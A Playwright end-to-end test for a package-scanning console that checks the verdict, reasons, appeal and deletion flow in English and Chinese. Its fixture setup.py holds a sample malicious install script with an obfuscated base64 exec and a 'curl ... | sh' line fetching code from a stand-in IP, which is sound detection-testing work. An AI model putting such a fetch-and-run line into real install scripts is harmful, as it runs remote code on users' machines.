"""From a package that is handed in to its verdict, an appeal, and its end."""

from __future__ import annotations

import io
import zipfile

from playwright.sync_api import expect

LONG_MS = 60_000
SETUP = b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://203.0.113.9/x.sh | sh')\n"
WORDS = {
    "en": {"malicious": "malicious", "line": "line 2", "open": "open", "upheld": "upheld", "send": "Send the appeal",
           "why": "Why is the verdict wrong?", "answer": "Answer", "uphold": "Uphold",
           "accepted": "Accepted until", "delete": "Delete", "deleted": "deleted"},
    "zh": {"malicious": "恶意", "line": "第 2 行", "open": "处理中", "upheld": "申诉成立", "send": "提交申诉",
           "why": "结论为何有误？", "answer": "答复", "uphold": "成立", "accepted": "已豁免至", "delete": "删除",
           "deleted": "已删除"},
}  # fmt: skip


def package(lang: str) -> bytes:
    """Another content in each language: what was accepted or deleted in one is not in the other."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("thing-1/setup.py", SETUP + f"# {lang}\n".encode())
        z.writestr("thing-1/PKG-INFO", "Name: thing\nVersion: 1\n")
    return out.getvalue()


def test_a_package_gets_its_verdict_with_reasons_an_appeal_and_its_end(console, server, lang):
    words, name = WORDS[lang], f"thing-{lang}.zip"
    page = console.open("/software", lang=lang)
    page.locator("input[type=file]").set_input_files({"name": name, "mimeType": "", "buffer": package(lang)})
    line = page.get_by_role("row").filter(has_text=name).first
    expect(line).to_contain_text(words["malicious"], timeout=LONG_MS)
    line.get_by_role("link").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(name)
    expect(page.locator(".reasons").first).to_contain_text("setup.py")
    expect(page.locator(".reasons").first).to_contain_text(words["line"])
    page.get_by_label(words["why"]).fill("it is a test of ours")
    page.get_by_role("button", name=words["send"]).click()
    expect(page.get_by_text(words["open"])).to_be_visible()
    page.get_by_label(words["answer"], exact=True).fill("it is")
    page.get_by_role("button", name=words["uphold"], exact=True).click()
    expect(page.get_by_role("note")).to_contain_text(words["accepted"])
    expect(page.get_by_text(words["upheld"])).to_be_visible()
    page.get_by_role("button", name=words["delete"], exact=True).first.click()
    page.locator(".ant-popover").get_by_role("button", name=words["delete"], exact=True).click()
    page.wait_for_url("**/software")
    expect(page.get_by_text(words["deleted"]).first).to_be_visible()
